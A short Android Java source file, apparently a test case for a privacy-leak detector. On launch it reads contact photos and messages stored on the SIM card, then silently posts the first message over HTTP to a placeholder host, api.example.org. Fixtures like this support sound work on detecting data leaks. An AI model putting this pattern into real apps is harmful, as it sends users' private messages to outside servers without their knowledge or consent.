// Methods of the platform that hand the data out without a query.
package cases.platform_methods;

import android.app.Activity;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.net.HttpURLConnection;
import java.net.URL;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            photo();
            oldPhoto();
            messages();
        } catch (Exception e) {
            Log.w("cases", "later");
        }
    }

    private void photo() throws Exception {
        ContactsContract.Contacts.openContactPhotoInputStream(getContentResolver(), android.content.ContentUris.withAppendedId(ContactsContract.Contacts.CONTENT_URI, 7)).close();
    }

    private void oldPhoto() throws Exception {
        android.provider.Contacts.People.loadContactPhoto(this, android.content.ContentUris.withAppendedId(android.provider.Contacts.People.CONTENT_URI, 7), 0, null);
    }

    private void messages() throws Exception {
        send(android.telephony.SmsManager.getDefault().getAllMessagesFromIcc().get(0).toString());
    }

    static void send(String text) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(text.getBytes());
        connection.getInputStream().close();
    }
}
